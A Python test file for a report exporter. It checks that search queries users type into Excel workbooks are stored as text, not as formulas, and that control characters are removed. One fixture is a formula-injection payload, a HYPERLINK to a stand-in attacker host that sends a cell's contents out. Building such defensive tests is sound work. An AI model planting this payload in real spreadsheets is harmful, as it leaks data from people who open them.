"""Report workbooks hold what people typed as text: never a formula a spreadsheet would run, never a
character a workbook cannot hold."""

from pathlib import Path

from openpyxl import load_workbook

from tests.report_fixture import week_report
from tools.kb.report import write_xlsx

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_a_search_typed_as_a_formula_is_written_as_text_and_control_characters_are_dropped(tmp_path: Path):
    report = week_report()
    report["gaps"][0] |= {"question": FORMULA, "example": "暖气\x01不热"}
    report["top_questions"][0] |= {"question": "+1 怎么办", "title": "@暖气\t"}
    path = tmp_path / "report.xlsx"
    write_xlsx(report, path)

    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert len(cells) > 50 and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    gaps = book["未解答"]
    assert (gaps["A2"].value, gaps["E2"].value) == (FORMULA, "暖气不热")
    assert (book["热门问题"]["A2"].value, book["热门问题"]["E2"].value) == ("+1 怎么办", "@暖气\t")
    assert book["概览"]["B4"].value == report["searches"]  # numbers stay numbers
